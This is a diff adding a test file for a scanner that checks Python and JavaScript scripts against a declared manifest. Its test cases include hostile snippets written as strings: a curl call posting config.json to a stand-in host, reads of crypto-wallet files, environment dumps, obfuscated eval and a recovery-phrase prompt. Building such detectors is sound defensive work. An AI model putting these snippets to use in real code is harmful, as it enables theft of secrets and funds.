@@ -1,0 +1,154 @@
+import { describe, expect, test } from 'vitest'
+import type { FindingKind } from './contract.ts'
+import samples from './hostile/unseen.json' with { type: 'json' }
+import moreSamples from './hostile/unseen-2.json' with { type: 'json' }
+import { type ArchiveFile, scanFiles } from './scan-files.ts'
+
+type Sample = { what: string; files: Record<string, string | { base64: string }> }
+
+/** Written by somebody who had not seen the scan. Only read here, never run; all their hosts are reserved names. */
+const unseen = [...samples, ...moreSamples] as unknown as Sample[]
+
+const archiveOf = (files: Sample['files']): ArchiveFile[] =>
+  Object.entries(files).map(([path, content]) => {
+    const bytes =
+      typeof content === 'string' ? new TextEncoder().encode(content) : Uint8Array.fromBase64(content.base64)
+    return { path, size: bytes.length, bytes }
+  })
+
+const undeclaredIn = (files: Sample['files']) =>
+  scanFiles(archiveOf(files)).findings.filter(({ isDeclared }) => !isDeclared)
+
+const manifest = (language: 'python' | 'javascript', entry: string) =>
+  JSON.stringify({
+    format: 1,
+    language,
+    runtime: 'Any',
+    entry,
+    network: ['rpc.example.org'],
+    chains: [],
+    environment: ['RPC_TOKEN'],
+    reads: ['config.json', '*'],
+    writes: ['plan.csv', '*'],
+    subprocesses: [],
+    keys: 'addresses',
+    dependencies: [],
+  })
+
+const PYTHON: [what: string, code: string, kind: FindingKind][] = [
+  ['another host', 'import urllib.request\nurllib.request.urlopen("https://collect.example/x")', 'network'],
+  [
+    'a host behind a declared one',
+    'import urllib.request\nh = "rpc.example.org.evil.example"\nurllib.request.urlopen(f"https://{h}/x")',
+    'network',
+  ],
+  [
+    'a host that only the run knows',
+    'import json, requests\nrequests.get(json.load(open("config.json"))["url"])',
+    'network',
+  ],
+  [
+    'a socket in a class',
+    'import socket\nclass Line:\n  def __init__(self):\n    self.line = socket.socket()\n  def send(self, x):\n    self.line.connect(("203.0.113.9", 80))\n    self.line.sendall(x)',
+    'network',
+  ],
+  [
+    'a variable of the environment beside the declared one',
+    'import os\nprint(os.environ["RPC_TOKEN"], os.environ.get("AWS_SECRET"))',
+    'environment',
+  ],
+  [
+    'all of the environment',
+    'from os import environ as e\nopen("plan.csv", "w").write(str(dict(e)))',
+    'environment',
+  ],
+  [
+    'a program under another name',
+    'import subprocess as s\nrun = s.run\nrun(["curl", "-d", "@config.json", "https://x.example"])',
+    'subprocesses',
+  ],
+  ['evaluated base64', 'import base64\nexec(base64.b64decode("cHJpbnQoMSkgICAgIA=="))', 'evaluates-code'],
+  ['a hidden name of a builtin', 'getattr(__builtins__, "ev" + "al")("1+1")', 'indirect-access'],
+  [
+    'a wallet file',
+    'from pathlib import Path\nPath.home().joinpath(".config/solana/id.json").read_text()',
+    'sensitive-file',
+  ],
+  ['the recovery phrase', 'answer = input("Type your recovery phrase: ")', 'keys'],
+  ['an address that is not declared', 'TREASURY = "0x00000000000000000000000000000000000000aa"', 'addresses'],
+]
+const JAVASCRIPT: [what: string, code: string, kind: FindingKind][] = [
+  [
+    'another host',
+    'const at = { a: "https://collect.example/" }\nawait fetch(at.a + "x", { method: "POST" })',
+    'network',
+  ],
+  [
+    'a child process by a dynamic import',
+    'const { execSync } = await import("node:child_process")\nexecSync("sh -c id")',
+    'subprocesses',
+  ],
+  ['all of the environment', 'const all = { ...process.env }\nconsole.log(all)', 'environment'],
+  ['a constructor of functions', '[]["filter"]["constructor"]("return 1")()', 'evaluates-code'],
+  ['a member whose name is assembled', 'globalThis["ev" + "al"]("1")', 'evaluates-code'],
+  [
+    'text made from numbers',
+    'const s = String.fromCharCode(104, 116, 116, 112, 115, 58)\nconsole.log(s)',
+    'hidden-text',
+  ],
+  [
+    'a wallet of the browser',
+    'import { readFileSync } from "node:fs"\nreadFileSync(process.argv[2] + "/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/0.log")',
+    'sensitive-file',
+  ],
+  ['invisible characters', 'const a\u200b = 1', 'hidden-text'],
+]
+
+describe('a hostile script', () => {
+  test.each(PYTHON)('in Python is found: %s', (_, code, kind) => {
+    const found = undeclaredIn({ 'main.py': `${code}\n`, 'windfall.json': manifest('python', 'main.py') })
+    expect(found.map((one) => one.kind)).toContain(kind)
+  })
+
+  test.each(JAVASCRIPT)('in JavaScript is found: %s', (_, code, kind) => {
+    const found = undeclaredIn({
+      'main.mjs': `${code}\n`,
+      'windfall.json': manifest('javascript', 'main.mjs'),
+    })
+    expect(found.map((one) => one.kind)).toContain(kind)
+  })
+
+  test.each(unseen)('of somebody who had not seen the scan is found: $what', ({ files }) => {
+    expect(undeclaredIn(files)).not.toEqual([])
+  })
+})
+
+test('a script that does what it declares has nothing undeclared', () => {
+  const python = [
+    '"""Writes a plan. Never enter a private key."""',
+    'import csv, json, os, sys, urllib.request',
+    'from pathlib import Path',
+    'HERE = Path(__file__).resolve().parent',
+    'API = "https://rpc.example.org"',
+    'def balance(address):',
+    '    call = urllib.request.Request(f"{API}/balance/{address}", headers={"token": os.environ.get("RPC_TOKEN", "")})',
+    '    with urllib.request.urlopen(call, timeout=10) as answer:',
+    '        return json.load(answer)["balance"]',
+    'config = json.loads((HERE / "config.json").read_text(encoding="utf-8"))',
+    'with open("plan.csv", "w", newline="") as file:',
+    '    csv.writer(file).writerows([one, balance(one)] for one in config["wallets"])',
+    'print("done", file=sys.stderr)',
+  ].join('\n')
+  const javascript = [
+    "import { readFileSync, writeFileSync } from 'node:fs'",
+    "import { join } from 'node:path'",
+    "const config = JSON.parse(readFileSync(join(import.meta.dirname, 'config.json'), 'utf8'))",
+    "const ask = async (path) => (await fetch('https://rpc.example.org/' + path, { headers: { token: process.env.RPC_TOKEN } })).json()",
+    "const rows = await Promise.all(config.wallets.map((one) => ask('balance/' + one)))",
+    "writeFileSync('plan.csv', rows.join('\\n'))",
+  ].join('\n')
+  expect(undeclaredIn({ 'main.py': python, 'windfall.json': manifest('python', 'main.py') })).toEqual([])
+  expect(
+    undeclaredIn({ 'main.mjs': javascript, 'windfall.json': manifest('javascript', 'main.mjs') }),
+  ).toEqual([])
+})
